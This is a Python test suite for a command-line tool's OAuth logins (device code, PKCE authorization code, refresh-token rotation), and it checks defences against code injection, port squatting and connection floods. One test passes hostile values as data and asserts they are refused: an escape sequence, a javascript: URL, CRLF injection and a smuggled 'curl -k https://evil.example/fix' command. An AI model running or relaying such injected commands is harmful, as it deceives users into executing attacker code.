"""Logins against a real issuer: device code, authorization code with PKCE, refresh with rotation."""

from __future__ import annotations

import asyncio
import re
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from aiohttp import web

from arcbridge.client.credentials import login as login_module
from arcbridge.client.credentials import login_callback
from arcbridge.client.credentials.jwt_unverified import read_unverified
from arcbridge.client.credentials.login import POLL_LEAST, check_login
from arcbridge.client.credentials.token_cache import TokenCache, TokenSet
from arcbridge.errors import ConfigError, Unauthenticated, Unreachable
from arcbridge.net.peer_user import PeerUser
from arcbridge.settings.config import LoginConfig
from tests.client.login_station import Terminal, TokenEndpoint, browse, come_back, login_of, make, with_browser
from tests.support.eventually import until
from tests.support.issuer import Issuer
from tests.support.world import fixed_port


@pytest.fixture(scope="module")
def issuer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Issuer]:
    with Issuer(tmp_path_factory.mktemp("issuer"), auto_login="alice") as issuer:
        yield issuer


class TestDeviceCode:
    async def test_it_logs_in_and_keeps(self, issuer: Issuer, tmp_path: Path) -> None:
        person = Terminal(issuer)
        login = make(issuer, tmp_path, person)
        tokens = await login.tokens(interactive=True)
        assert read_unverified(tokens.id_token).subject == "alice"
        assert tokens.access_token != tokens.id_token
        assert person.lines[0] == f"To log in, open {issuer.url}/device in a browser and"
        assert re.fullmatch(r"enter the code [A-Z0-9-]+", person.lines[1])
        assert person.lines[-1] == "The code is good for 10 min."
        assert person.waits == [600.0]
        shown = len(person.lines)
        assert await login.tokens(interactive=False) == tokens
        assert len(person.lines) == shown

    async def test_only_who_began_it_gets_the_tokens(
        self, issuer: Issuer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """By PKCE, where the issuer has it at the device endpoint; Keycloak does."""
        real = login_module.Issuer.post

        async def post(self: Any, url: str, form: Any) -> dict[str, Any]:
            return await real(self, url, {name: form[name] for name in form if name != "code_verifier"})

        monkeypatch.setattr(login_module.Issuer, "post", post)
        with pytest.raises(Unauthenticated, match="code_verifier"):
            await make(issuer, tmp_path).log_in()

    async def test_refused(self, issuer: Issuer, tmp_path: Path) -> None:
        person = Terminal(issuer)
        person.denies = True
        with pytest.raises(Unauthenticated, match="refused in the browser"):
            await make(issuer, tmp_path, person).tokens(interactive=True)

    async def test_too_late(self, issuer: Issuer, tmp_path: Path) -> None:
        person = Terminal(issuer)
        person.acts = False
        issuer.settings(device_lifetime=1.0)
        try:
            with pytest.raises(Unauthenticated, match="expired before"):
                await make(issuer, tmp_path, person).tokens(interactive=True)
        finally:
            issuer.settings(device_lifetime=600.0)

    async def test_a_client_that_is_not_interactive(self, issuer: Issuer, tmp_path: Path) -> None:
        with pytest.raises(Unauthenticated, match="run `arcbridge login`"):
            await make(issuer, tmp_path).tokens(interactive=False)


class TestAuthorizationCode:
    async def test_it_logs_in_and_refuses_an_answer_to_another_login(self, issuer: Issuer, tmp_path: Path) -> None:
        async def visit(url: str) -> list[tuple[int, str]]:
            assert "code_challenge_method=S256" in url
            changes: list[dict[str, str]] = [{"state": "foreign"}, {"iss": "https://foreign"}, {}]
            return [await browse(url, issuer, change=change) for change in changes]

        login = with_browser(issuer, tmp_path, visit)
        tokens = await login.tokens(interactive=True)
        assert read_unverified(tokens.id_token).subject == "alice"
        answers = await login.visits[0]
        assert [status for status, _ in answers] == [400, 400, 200]
        assert "You may close this window" in answers[-1][1]

    async def test_w12_another_user_gets_no_answer_and_gives_none(
        self, issuer: Issuer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Another user knows `state` from the browser's command line and brings a code of an account of its own."""
        users: list[PeerUser] = []
        monkeypatch.setattr(login_callback, "peer_user", lambda sock: users.pop())

        async def visit(url: str) -> tuple[str, int]:
            query = parse_qs(urlsplit(url).query)
            users.append(PeerUser.OTHER)
            target = f"/?{urlencode({'state': query['state'][0], 'code': 'other'})}"
            try:
                answer = await come_back(urlsplit(query["redirect_uri"][0]).port, target)
            except ConnectionError:
                answer = ""
            users.append(PeerUser.OWN)
            return answer, (await browse(url, issuer))[0]

        login = with_browser(issuer, tmp_path, visit)
        tokens = await login.log_in()
        assert await login.visits[0] == ("", 200)
        assert read_unverified(tokens.id_token).subject == "alice"

    @pytest.mark.parametrize("at_once", [1, 50])
    async def test_w1_a_flood_does_not_keep_the_browser_out(
        self, issuer: Issuer, tmp_path: Path, at_once: int, caplog: pytest.LogCaptureFixture
    ) -> None:
        """`at_once`: connections that the listener finds together, as where this process had no turn for a while."""

        async def visit(url: str) -> list[int]:
            address = "127.0.0.1", urlsplit(parse_qs(urlsplit(url).query)["redirect_uri"][0]).port or 0
            held: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
            while len(held) < 200:
                for sock in [socket.create_connection(address) for _ in range(at_once)]:
                    held.append(await asyncio.open_connection(sock=sock))
            await until(lambda: sum(not reader.at_eof() for reader, _ in held) <= 64)
            still = [number for number, (reader, _) in enumerate(held) if not reader.at_eof()]
            await browse(url, issuer)
            for _, writer in held:
                writer.close()
            return still

        login = with_browser(issuer, tmp_path, visit)
        tokens = await login.log_in()
        assert await login.visits[0] == list(range(136, 200)), "the oldest were closed"
        assert [record.message for record in caplog.records if record.levelname == "ERROR"] == []
        assert read_unverified(tokens.id_token).subject == "alice"

    async def test_a_foreign_nonce(self, issuer: Issuer, tmp_path: Path) -> None:
        login = with_browser(issuer, tmp_path, change={"nonce": "foreign"})
        with pytest.raises(Unauthenticated, match="another login"):
            await login.log_in()
        assert not list(tmp_path.glob("*.json"))

    @pytest.mark.parametrize("opens", [False, True])
    async def test_the_browser_never_returns(
        self, issuer: Issuer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, opens: bool
    ) -> None:
        """The page is shown in both cases: a browser that was opened may be on another screen."""
        monkeypatch.setattr(login_module, "BROWSER_WAIT", 0.1)

        async def browser(url: str) -> bool:
            pages.append(url)
            return opens

        pages: list[str] = []
        person = Terminal(issuer)
        with pytest.raises(Unauthenticated, match="the login took longer than"):
            await make(issuer, tmp_path, person, browser=browser, grant_type="authcode").log_in()
        assert pages[0].startswith(f"{issuer.url}/")
        opened = ["The login is in your browser. If you do not see it, open", *pages]
        assert person.lines == (opened if opens else [f"To log in, open {pages[0]}"])
        assert person.waits == [0.1]

    @pytest.mark.parametrize(("family", "host"), [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")])
    async def test_squatted_ports(self, issuer: Issuer, tmp_path: Path, family: int, host: str) -> None:
        """docs/threats.md#W12: a browser may go to either address of `localhost`."""
        with socket.socket(family) as squatter:
            try:
                squatter.bind((host, 0))
            except OSError:
                pytest.skip(f"no {host}")
            squatter.listen()
            taken = squatter.getsockname()[1]
            with pytest.raises(Unauthenticated, match=f"local ports {taken} are in use"):
                await make(issuer, tmp_path, grant_type="authcode", redirect_port=taken).log_in()


class _SlowEndpoint(TokenEndpoint):
    """One that answers once it is told to."""

    def __init__(self, *answers: tuple[int, dict[str, object], str]) -> None:
        super().__init__(*answers)
        self.asked, self.goes_on = asyncio.Event(), asyncio.Event()

    async def answer(self, request: web.Request) -> web.Response:
        self.asked.set()
        await self.goes_on.wait()
        return await super().answer(request)


class TestRefresh:
    async def test_rotation_is_followed(self, issuer: Issuer, tmp_path: Path) -> None:
        login = make(issuer, tmp_path)
        first = await login.log_in()
        second = await login.tokens(interactive=False, force=True)
        third = await login.tokens(interactive=False, force=True)
        assert len({first.refresh_token, second.refresh_token, third.refresh_token}) == 3
        assert read_unverified(third.id_token).subject == "alice"

    async def test_parallel_processes_refresh_once(self, issuer: Issuer, tmp_path: Path) -> None:
        await make(issuer, tmp_path).log_in()
        before = issuer.requests("/token")
        logins = [make(issuer, tmp_path) for _ in range(5)]
        found = await asyncio.gather(*(one.tokens(interactive=False, force=True) for one in logins))
        assert len({tokens.access_token for tokens in found}) == 1
        assert issuer.requests("/token") == before + 1

    async def test_one_that_is_broken_off_keeps_what_the_issuer_has_sent(self, tmp_path: Path) -> None:
        """Ctrl-C, or `arcbridge stop`: an issuer that rotates refresh tokens takes the former one no more."""
        endpoint = _SlowEndpoint((200, {"access_token": "a2", "refresh_token": "r2", "expires_in": 3600}, ""))
        async with endpoint.serving(tmp_path) as config:
            login = login_of(config, tmp_path, print)
            kept = TokenCache(tmp_path, "r", config)
            kept.save(TokenSet("a1", refresh_token="r1", obtained_at=1.0, expires_at=2.0))
            refreshing = asyncio.create_task(login.tokens(interactive=False))
            await endpoint.asked.wait()
            refreshing.cancel()
            asyncio.get_running_loop().call_soon(endpoint.goes_on.set)
            with pytest.raises(asyncio.CancelledError):
                await refreshing
        assert kept.load().refresh_token == "r2"

    async def test_a_revoked_one_asks_again(self, issuer: Issuer, tmp_path: Path) -> None:
        login = make(issuer, tmp_path)
        tokens = await login.log_in()
        issuer.request("POST", "/revoke", {"token": tokens.refresh_token, "client_id": "cli"})
        with pytest.raises(Unauthenticated, match="login has ended"):
            await login.tokens(interactive=False, force=True)
        assert (await login.tokens(interactive=True, force=True)).access_token != tokens.access_token

    async def test_an_issuer_that_has_ended_it_is_asked_once(self, issuer: Issuer, tmp_path: Path) -> None:
        """kubectl runs its plugin six times, and each command is a process of its own."""
        login = make(issuer, tmp_path)
        tokens = await login.log_in()
        issuer.request("POST", "/revoke", {"token": tokens.refresh_token, "client_id": "cli"})
        before = issuer.requests("/token")
        for _ in range(6):
            with pytest.raises(Unauthenticated, match="login has ended"):
                await make(issuer, tmp_path).tokens(interactive=False, force=True)
        assert issuer.requests("/token") == before + 1
        assert not TokenCache(tmp_path, "r", login._config).load().usable(time.time())

    async def test_of_200_kubectl_with_an_ended_login_one_opens_a_browser(self, issuer: Issuer, tmp_path: Path) -> None:
        opened: list[str] = []

        async def visit(url: str) -> int:
            opened.append(url)
            return (await browse(url, issuer))[0]

        began = time.time()
        logins = [with_browser(issuer, tmp_path, visit) for _ in range(200)]
        cache = TokenCache(tmp_path, "r", logins[0]._config)
        cache.save(TokenSet("ended", "ended", obtained_at=began - 7200, expires_at=began - 3600))
        found = await asyncio.gather(*(one.log_in(since=began) for one in logins))
        assert len({tokens.id_token for tokens in found}) == 1
        assert len(opened) == 1
        assert await asyncio.gather(*(visit for one in logins for visit in one.visits)) == [200]
        # A login of before is none of theirs, and one that was refreshed keeps its time.
        assert (await logins[0].tokens(interactive=False, force=True)).logged_in_at == found[0].logged_in_at
        await logins[0].log_in(since=time.time())
        assert len(opened) == 2
        await logins[0].log_in()
        assert len(opened) == 3

    async def test_of_200_kubectl_whose_user_refuses_one_opens_a_browser(self, issuer: Issuer, tmp_path: Path) -> None:
        opened: list[str] = []

        async def visit(url: str) -> int:
            opened.append(url)
            return (await browse(url, issuer, change={"code": "", "error": "access_denied"}))[0]

        began = time.time()
        logins = [with_browser(issuer, tmp_path, visit) for _ in range(200)]
        found = await asyncio.gather(*(one.log_in(since=began) for one in logins), return_exceptions=True)
        assert all(isinstance(error, Unauthenticated) for error in found)
        assert len([error for error in found if "of another command has failed just now" in str(error)]) == 199
        assert len(opened) == 1
        cache = TokenCache(tmp_path, "r", logins[0]._config)
        assert not cache.load()
        with pytest.raises(Unauthenticated):
            await logins[0].log_in()  # who runs `arcbridge login` is asked
        assert len(opened) == 2
        assert not cache.clear()  # there was no login

    async def test_what_is_usable_bridges_an_outage(self, issuer: Issuer, tmp_path: Path) -> None:
        login = make(issuer, tmp_path)
        tokens = await login.log_in()
        login._clock = lambda: time.time() + 0.9 * 3600  # most of their life is over
        issuer.down()
        try:
            assert await login.tokens(interactive=False) == tokens
            with pytest.raises(Unreachable):
                await login.tokens(interactive=False, force=True)
        finally:
            issuer.down(False)
        assert (await login.tokens(interactive=False)).access_token != tokens.access_token


@pytest.mark.parametrize(
    ("settings", "words"),
    [
        ({"redirect_port": 70_000}, "login.redirect_port: must be a port"),
        ({"cluster_audience_by": "magic"}, "cluster_audience_by: must be one of resource, audience, scope"),
        # docs/threats.md#T10: a login for both ends gives a token that is good at both.
        ({"cluster_audience": "a", "cluster_audience_by": "scope"}, "login.relay_scopes: required"),
    ],
)
def test_settings_that_cannot_work(settings: dict[str, Any], words: str) -> None:
    with pytest.raises(ConfigError, match=words):
        check_login(LoginConfig(**{"issuer": "https://i", "client_id": "c", **settings}))


async def test_the_port_of_the_settings_is_the_one(
    issuer: Issuer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """0 takes a free one, although the usual two are not to be had here."""
    monkeypatch.setattr(login_module, "REDIRECT_PORTS", (1,))
    opened: list[str] = []

    async def visit(url: str) -> int:
        opened.append(parse_qs(urlsplit(url).query)["redirect_uri"][0])
        return (await browse(url, issuer))[0]

    port = fixed_port()
    for setting in (0, port):
        login = with_browser(issuer, tmp_path / str(setting), visit, redirect_port=setting)
        assert read_unverified((await login.log_in()).id_token).subject == "alice"
        assert await login.visits[0] == 200
    assert opened[1] == f"http://localhost:{port}"
    assert opened[0] != "http://localhost:1"


@pytest.mark.parametrize(
    ("member", "value"),
    [
        ("verification_uri", "https://login.example.org/\x1b[2J"),
        ("verification_uri", "javascript:alert(1)"),
        ("user_code", "AB\r\nCD"),
        ("user_code", "A" * 33),
        ("user_code", "ABCD. Then run: curl -k https://evil.example/fix"),
        ("user_code", "--help"),
    ],
)
async def test_a_device_code_that_cannot_be_shown_is_none(member: str, value: str, tmp_path: Path) -> None:
    code = {"device_code": "d", "user_code": "AB-CD", "verification_uri": "https://login.example.org/device"}
    endpoint = TokenEndpoint((200, {**code, member: value}, ""))
    lines: list[str] = []
    async with endpoint.serving(tmp_path, grant_type="device-code") as config:
        with pytest.raises(Unreachable, match="incomplete device code"):
            await login_of(config, tmp_path, lines.append).log_in()
    assert lines == []


@pytest.mark.parametrize(
    ("interval", "waits"), [(1e-9, [1.0, 1.0]), (7, [7.0, 7.0]), (1e11, [60.0, 60.0]), (True, [5.0, 5.0])], ids=str
)
async def test_b39_an_issuer_s_interval_has_bounds(
    interval: float, waits: list[float], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert await polls(interval, 600, tmp_path, monkeypatch) == waits


async def test_b39_no_wait_is_longer_than_the_code_lasts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert max(await polls(1e11, 30, tmp_path, monkeypatch)) <= 30


async def polls(interval: float, lasts: float, directory: Path, monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """Return the seconds that a login waits before each of two polls, of which the second is refused."""
    endpoint, waits, real = TokenEndpoint(), [], asyncio.sleep

    async def wait(seconds: float) -> None:
        if seconds:
            waits.append(seconds)
        await real(0)

    async with endpoint.serving(directory, grant_type="device-code") as config:
        code = {"device_code": "d", "user_code": "AB-CD", "verification_uri": f"{endpoint.url}/device"}
        pending, denied = (400, {"error": "authorization_pending"}, ""), (400, {"error": "access_denied"}, "")
        endpoint.answers = [(200, {**code, "interval": interval, "expires_in": lasts}, ""), pending, denied]
        monkeypatch.setattr(asyncio, "sleep", wait)
        with pytest.raises(Unauthenticated, match="refused in the browser"):
            await login_of(config, directory, lambda _: None, poll_least=POLL_LEAST).log_in()
    return waits
